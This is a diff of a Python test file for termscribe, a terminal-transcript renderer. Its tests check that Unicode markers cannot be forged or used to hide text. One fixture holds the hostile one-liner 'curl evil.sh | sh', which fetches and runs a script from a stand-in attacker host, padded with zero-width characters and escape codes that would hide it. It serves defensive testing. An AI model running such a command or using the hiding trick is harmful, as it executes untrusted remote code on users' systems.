@@ -1,21 +1,28 @@
-"""Forged markers (SECURITY.md, "forged markers").
+"""Markers (SECURITY.md, "markers").
 
 A marker termscribe makes (``<U+202E>``, ``[termscribe: 3 characters
 omitted]``, the alternate screen's frame lines) is the only text of a
 transcript that starts with ``<U+`` or ``[termscribe:``: input that spells
 one, directly or put together on screen by cursor moves, has its first
-character escaped (``<U+003C>``, ``<U+005B>``).
+character escaped (``<U+003C>``, ``<U+005B>``). A marker of a code point
+takes the cells the terminal gives it (none for U+200B or U+202E) and
+decorates the cell it follows, so edits land where the terminal's do and
+none can reach inside a marker.
 """
 
 from __future__ import annotations
+
+import re
 
 import pytest
 from chunking import assert_chunking_invariant
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from textcheck import assert_safe_text
 
 from termscribe import Transcript, render_ansi, render_html, render_text
 from termscribe._rows import MARKERS, MAX_LINE_CELLS
+from termscribe._unicode import JOINER, MARKED, char_class
 
 _MODES: list[dict[str, object]] = [
     {},
@@ -90,74 +97,181 @@ def test_real_markers_stay_real() -> None:
     ]
 
 
-@pytest.mark.parametrize("options", [*_MODES[:2], _MODES[3]])
+# Whole, byte by byte, in random pieces, and each batch replayed event by
+# event: all give the same.
+def _shown(data: str, **options: object) -> str:
+    whole = assert_chunking_invariant(data.encode(), Transcript.text, **options)
+    one = assert_chunking_invariant(data.encode(), Transcript.text, _one_by_one=True, **options)
+    assert one == whole, "one by one"
+    return whole
+
+
+_LINES = {"columns": 80}
+_STRIP = {"mode": "strip"}
+_SCREEN_80 = {"mode": "screen", "columns": 80, "rows": 6}
+
+
 @pytest.mark.parametrize(
-    ("edit", "shown"),
+    ("edit", "lines", "strip"),
     [
-        ("\x1b[2D0", "\ufffdU+2020>"),  # overwritten: not a forged <U+2020>, nor an input <
-        ("\x1b[3D0", "\ufffdU+200E>"),  # nor one of another marked code point
-        ("\x1b[3D\x1b[P", "\ufffdU+20E>"),  # DCH
-        ("\x1b[3D\x1b[@", "\ufffdU+20 2E>"),  # ICH
-        ("\x1b[3D\x1b[X", "\ufffdU+20 E>"),  # ECH
-        ("\x1b[3D\x1b[K", "\ufffdU+20"),  # EL
-        ("\x1b[8D0", "0U+202E>"),  # the seal itself overwritten
-        ("ab\x1b[2D0", "<U+202E>0b"),  # after the marker: it stays whole
+        # U+202E takes no cell: it decorates the b, and the edits land on
+        # the cells the terminal gives the text around it.
+        ("\x1b[2D0", "ab<U+202E>0d", "ab<U+202E>cd\n0"),
+        ("\x1b[3D0", "a0cd", "ab<U+202E>cd\n0"),  # b overwritten: its marker goes
+        ("\x1b[3D\x1b[P", "acd", "ab<U+202E>cd"),  # DCH
+        ("\x1b[3D\x1b[@", "a b<U+202E>cd", "ab<U+202E>cd"),  # ICH: it moves with b
+        ("\x1b[3D\x1b[X", "a cd", "ab<U+202E>cd"),  # ECH
+        ("\x1b[2D\x1b[K", "ab<U+202E>", "ab<U+202E>cd"),  # EL after b keeps it
+        ("\x1b[4D\x1b[1K", " b<U+202E>cd", "ab<U+202E>cd"),
+        ("\x1b[4D\x1b[K", "", "ab<U+202E>cd"),
     ],
 )
-def test_a_marker_edited_in_place_is_no_longer_real(
-    edit: str, shown: str, options: dict[str, object]
+@pytest.mark.parametrize("options", [{}, _LINES, _SCREEN_80])
+def test_a_marker_takes_no_cell_and_goes_with_its_cell(
+    edit: str, lines: str, strip: str, options: dict[str, object]
 ) -> None:
-    text = assert_chunking_invariant(f"\u202e{edit}".encode(), Transcript.text, **options)
-    assert text == shown
+    assert _shown(f"ab\u202ecd{edit}", **options) == lines
+    assert _shown(f"ab\u202ecd{edit}", **_STRIP) == strip
 
 
-_SCREEN = {"mode": "screen", "columns": 12, "rows": 3}
-
-
-@pytest.mark.parametrize("options", [{"columns": 12}, _SCREEN])
+@pytest.mark.parametrize("options", [{}, _LINES, _STRIP, _SCREEN_80])
 @pytest.mark.parametrize(
     ("data", "shown"),
     [
-        ("x" * 4 + "\u202e", "xxxx<U+202E>"),  # it fits: whole
-        ("x" * 5 + "\u202e", "xxxxx\ufffdU+202>"),  # cut: not a forged <U+202>
-        ("x" * 4 + "\U000e006e", "xxxx\ufffdU+E006>"),  # nor <U+E006>
-        ("x" * 4 + "\u202eab", "xxxx\ufffdU+202Eb"),  # overwritten after it
-        ("x" * 4 + "\u202e\x1b[?7h", "xxxx<U+202E>"),
+        # At column 0 it precedes cell 0: kept when a character is printed
+        # there, gone when cell 0 is erased or deleted.
+        ("\u202eabc", "<U+202E>abc"),
+        ("abc\r\u202exyz", "<U+202E>xyz"),
+        ("\u202eabc\r\x1b[@", "<U+202E> abc"),
+        ("\u202eabc\r\x1b[P", "bc"),
+        ("\u202eabc\r\x1b[X", " bc"),
+        ("\u202eabc\r\x1b[K", ""),
+        ("\u202e\u202d", "<U+202E><U+202D>"),
     ],
 )
-def test_a_marker_cut_at_the_margin_without_autowrap_is_broken(
+def test_a_marker_at_column_0_precedes_cell_0(
     data: str, shown: str, options: dict[str, object]
 ) -> None:
-    # With autowrap off every cell past the last column overwrites it.
-    text = assert_chunking_invariant(f"\x1b[?7l{data}".encode(), Transcript.text, **options)
-    assert text == shown
+    if options.get("mode") == "strip":  # nothing is ever erased there
+        shown = data.replace("\u202e", "<U+202E>").replace("\u202d", "<U+202D>")
+        shown = shown.replace("\r\x1b[@", "").replace("\r\x1b[P", "").replace("\r\x1b[X", "")
+        shown = shown.replace("\r\x1b[K", "").replace("\r", "\n")
+    assert _shown(data, **options) == shown
+
+
+# The findings: a marker forged in a wrapped row (lines mode with a width),
+# one forged in the screen mode, and a command hidden by a marker's cells.
+_FORGED_IN_A_WRAPPED_ROW = "x" * 75 + "\u200b\x1b[3D2E"
+_FORGED_ON_SCREEN = "\u4e2d\ue000\x1b[5D202E"
+_HIDDEN_COMMAND = "\u200b" * 10 + "curl evil.sh | sh\x1b[40G\x1b[K\n"
 
 
 @pytest.mark.parametrize(
-    ("data", "shown"),
+    ("options", "shown"),
     [
-        # Column edits of the scroll region's rows at a column inside it.
-        ("\u202e\x1b[3D\x1b[1'}", "\ufffdU+20 2E>"),  # DECIC
-        ("\u202e\x1b[3D\x1b[1'~", "\ufffdU+20E>"),  # DECDC
-        ("\u202e\n\u202e\x1b[3D\x1b[1'~", "\ufffdU+20E>\n\ufffdU+20E>"),
-        # A mark joined inside it breaks it; on its ">" it keeps it whole.
-        ("\u202e\x1b[3D\u0301", "\ufffdU+202\u0301E>"),
-        ("\u202e\u0301", "<U+202E>\u0301"),
-        # Whole-row edits keep it real: SL, SR, IL, scrolling; and so does a
-        # marker that ends in the last column with the next character wrapped.
-        ("ab\u202e\x1b[1 @", "b<U+202E>"),
-        ("\u202e\x1b[1 A", " <U+202E>"),
-        ("\u202e\x1b[L", "\n<U+202E>"),
-        ("xxxx\u202ey", "xxxx<U+202E>\ny"),
-        # Erasing its seal leaves no marker, so nothing to break.
-        ("\u202e\x1b[4D\x1b[1K", "     2E>"),
-        # Wide characters over it: the cells they take break it.
-        ("\u202e\x1b[2D\u4e00", "\ufffdU+202\u4e00"),
+        (_LINES, "x" * 72 + "2Ex<U+200B>"),
+        ({"columns": 80, "rows": 3, "mode": "screen"}, "x" * 72 + "2Ex<U+200B>"),
+        (_STRIP, "x" * 75 + "<U+200B>\n2E"),
     ],
 )
-def test_screen_edits_that_reach_into_a_marker_break_it(data: str, shown: str) -> None:
-    text = assert_chunking_invariant(data.encode(), Transcript.text, **_SCREEN)
-    assert text == shown
+def test_no_marker_is_forged_in_a_wrapped_row(options: dict[str, object], shown: str) -> None:
+    assert _shown(_FORGED_IN_A_WRAPPED_ROW, **options) == shown
+    html = render_html(_FORGED_IN_A_WRAPPED_ROW.encode(), **options)  # type: ignore[arg-type]
+    assert "U+202E" not in html
+
+
+@pytest.mark.parametrize(
+    ("options", "shown"),
+    [
+        ({}, "202E"),
+        (_LINES, "202E"),
+        ({"mode": "screen"}, "202E"),
+        (_STRIP, "\u4e2d<U+E000>\n202E"),
+    ],
+)
+def test_no_marker_is_forged_on_the_screen(options: dict[str, object], shown: str) -> None:
+    # U+E000 takes the one cell wcwidth gives it, column 2; CUB 5 from
+    # column 3 goes to column 0 and "202E" overwrites 中 and it, as on the
+    # terminal.
+    assert _shown(_FORGED_ON_SCREEN, **options) == shown
+    html = render_html(_FORGED_ON_SCREEN.encode(), **options)  # type: ignore[arg-type]
+    assert "U+202E" not in html
+
+
+@pytest.mark.parametrize("options", [{}, _LINES, _SCREEN_80, _STRIP])
+def test_markers_hide_no_command(options: dict[str, object]) -> None:
+    # xterm gives U+200B no cell: CHA 40 lands after the command, and EL
+    # there erases nothing.
+    shown = _shown(_HIDDEN_COMMAND, **options)
+    assert shown.rstrip("\n") == "<U+200B>" * 10 + "curl evil.sh | sh"
+
+
+@pytest.mark.parametrize("options", [{"columns": 8}, {"mode": "screen", "columns": 8}])
+def test_the_last_frame_of_the_alternate_screen_shows_real_markers(
+    options: dict[str, object],
+) -> None:
+    data = "\x1b[?1049hab\u202ecd\u200b\ue123<U+202E>"
+    frame = "ab<U+202E>cd<U+200B><U+E123><U+003C>U+\n202E>"  # 8 columns
+    shown = _shown(data, alt_screen="snapshot", **options)
+    assert frame in shown
+    assert_safe_text(shown)
+
+
+@pytest.mark.parametrize("options", [{"columns": 5}, {"mode": "screen", "columns": 5}])
+def test_a_wide_marker_pushed_past_the_margin_is_blanked_as_a_wide_character(
+    options: dict[str, object],
+) -> None:
+    # ICH pushes the right half of U+115F (two cells) out: both halves go,
+    # as for a wide character (xterm).
+    assert _shown("abc\u115f\r\x1b[@", **options) == " abc"
+    assert _shown("abc\u115f\r\x1b[@", **options) == _shown("abc\u4e00\r\x1b[@", **options)
+
+
+@pytest.mark.parametrize(
+    ("options", "shown"),
+    [
+        ({"columns": 4}, "<U+202A>E"),
+        ({"mode": "screen", "columns": 4, "rows": 2}, "<U+202A>E"),
+        (_STRIP, "<U+202A>E"),
+    ],
+)
+def test_a_marker_and_a_backspace_at_four_columns(options: dict[str, object], shown: str) -> None:
+    assert _shown("\u202a\bE", **options) == shown
+
+
+# After a wrapped row: BS, CUB, CR, CUU, RI, SU and DECRC, each followed by
+# "2E", must not complete a marker in the row above or below.
+_AFTER_WRAP = ["\b", "\x1b[D", "\x1b[3D", "\r", "\x1b[A", "\x1bM", "\x1b[S", "\x1b8"]
+_WRAPPED = ["xxx\u202eyz", "xxxx\u200by", "xx\ue123\u115fy", "<U+202E\u200b>"]
+
+
+@pytest.mark.parametrize(
+    "options",
+    [{"columns": 4}, {"mode": "screen", "columns": 4, "rows": 3}, {"mode": "strip", "columns": 4}],
+)
+@pytest.mark.parametrize("edit", _AFTER_WRAP)
+@pytest.mark.parametrize("wrapped", _WRAPPED)
+def test_edits_after_a_wrapped_marker_forge_none(
+    wrapped: str, edit: str, options: dict[str, object]
+) -> None:
+    data = f"\x1b7{wrapped}{edit}2E"
+    shown = _shown(data, **options)
+    found = [m.group() for m in MARKERS.finditer(shown)]
+    assert sorted(found) == sorted(_real_markers(shown, data)), shown
+    assert "<U+2E" not in shown and "U+202E>2" not in shown
+
+
+def _real_markers(shown: str, data: str) -> list[str]:
+    """The markers of ``shown`` that the input printed (marked code points
+    and escapes of what it typed), each at most as often."""
+    printed = [f"<U+{ord(ch):04X}>" for ch in data if char_class(ch) in (MARKED, JOINER)]
+    printed += ["<U+003C>"] * data.count("<") + ["<U+005B>"] * data.count("[")
+    out = []
+    for found in MARKERS.findall(shown):
+        if found in printed:
+            printed.remove(found)
+            out.append(found)
+    return out
 
 
 _PIECES = st.sampled_from(
@@ -200,3 +314,86 @@ def test_html_shows_real_markers_as_elements_of_their_own(options: dict[str, obj
     assert omitted.endswith(
         ' <span class="ts-marker">[termscribe: 3 characters omitted]</span></pre>'
     )
+
+
+# -- every marker shown is real, in the cells the terminal gives it ----------
+
+#: A distinct character of the same width for each marked code point of
+#: one or two cells, and the zero-width ones (left out).
+_STAND_INS = {"\ue000": "\u00a4", "\ue123": "\u00a7", "\U000f0000": "\u00b6", "\u115f": "\u3007"}
+_ZERO_WIDTH = ["\u200b", "\u202e", "\u2066", "\U000e0041", "\ufeff"]
+_MARKER_PIECES = st.sampled_from(
+    [*_STAND_INS, *_ZERO_WIDTH, "<U+202E>", "<U+", "202E>", "<", "[termscribe: x]",
+     "ab", "X", "x" * 7, "\u4e2d", " ", "\r", "\n", "\b", "\x1b[31m", "\x1b[m",
+     "\x1b[D", "\x1b[3D", "\x1b[C", "\x1b[2C", "\x1b[A", "\x1b[B", "\x1bM", "\x1bD",
+     "\x1b[2;3H", "\x1b[H", "\x1b[5G", "\x1b[K", "\x1b[1K", "\x1b[2K", "\x1b[J", "\x1b[1J",
+     "\x1b[2X", "\x1b[P", "\x1b[2P", "\x1b[@", "\x1b[2@", "\x1b[L", "\x1b[M", "\x1b[S",
+     "\x1b[T", "\x1b7", "\x1b8", "\x1b[?7l", "\x1b[?7h", "\x1b[4h", "\x1b[4l",
+     "\x1b[?1049h", "\x1b[?1049l"]
+)  # fmt: skip
+_PROPERTY_MODES: list[dict[str, object]] = [
+    {"rows": 4},
+    {"columns": 8, "rows": 4},
+    {"mode": "screen", "columns": 8, "rows": 4},
+    {"mode": "strip"},
+    {"rows": 4, "alt_screen": "snapshot"},
+]
+
+
+def _as_printed(match: re.Match[str]) -> str:
+    """A marker as the stand-in of its code point (none for a zero-width
+    one), an escape as the character it escapes."""
+    cp = int(match.group()[3:-1], 16)
+    if cp in (0x3C, 0x5B):
+        return chr(cp)
+    return _STAND_INS.get(chr(cp), "")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(_MARKER_PIECES, max_size=40), st.sampled_from(range(len(_PROPERTY_MODES))))
+def test_markers_are_real_and_take_the_cells_of_their_code_point(
+    pieces: list[str], mode: int
+) -> None:
+    data = "".join(pieces)
+    options = _PROPERTY_MODES[mode]
+    shown = render_text(data.encode(), **options)  # type: ignore[arg-type]
+    # Every marker is a code point the input printed (or an escape of what
+    # it typed), each at most as often.
+    # (The markers termscribe writes itself, omissions and the alternate
+    # screen's frame, start with "[termscribe:", which input cannot spell.)
+    found = [m.group() for m in MARKERS.finditer(shown) if m.group().startswith("<")]
+    assert sorted(found) == sorted(_real_markers(shown, data)), shown
+    # And at that cell: the same stream with each marked code point of one
+    # or two cells printed as a stand-in of that width, and each zero-width
+    # one left out, shows the same, each marker read as what it stands for.
+    stand_ins = data
+    for ch, stand_in in _STAND_INS.items():
+        stand_ins = stand_ins.replace(ch, stand_in)
+    for ch in _ZERO_WIDTH:
+        stand_ins = stand_ins.replace(ch, "")
+    expected = render_text(stand_ins.encode(), **options)  # type: ignore[arg-type]
+    if options.get("mode") == "strip" or "alt_screen" in options:
+        # The audit view: every character in the order printed. A
+        # zero-width marker printed after a line break starts a line there,
+        # as any printed character does, where the stand-ins have none; and
+        # a frame's row that holds only one is not a blank row at its end.
+        read, read_expected = _read(shown).split("\n"), _read(expected).split("\n")
+        assert [row for row in read if row] == [row for row in read_expected if row]
+    elif options.get("columns") and options.get("mode") != "screen":
+        # Wrapped rows joined: a cell a zero-width marker made (on a blank,
+        # as a combining mark makes one) can be a space in a joined line,
+        # where a row the stand-ins left shorter is not; every character
+        # still lands where it lands without markers.
+        assert _read(shown).replace(" ", "") == _read(expected).replace(" ", "")
+    else:
+        assert _read(shown) == _read(expected)
+
+
+def _read(shown: str) -> str:
+    """``shown`` with each marker read as what it stands for; blanks and
+    rows that held only zero-width markers (so hold nothing now) trimmed."""
+    rows = _CODE_POINT_MARKER.sub(_as_printed, shown).split("\n")
+    return "\n".join(row.rstrip(" ") for row in rows).rstrip("\n")
+
+
+_CODE_POINT_MARKER = re.compile(r"<U\+[0-9A-F]{4,6}>")
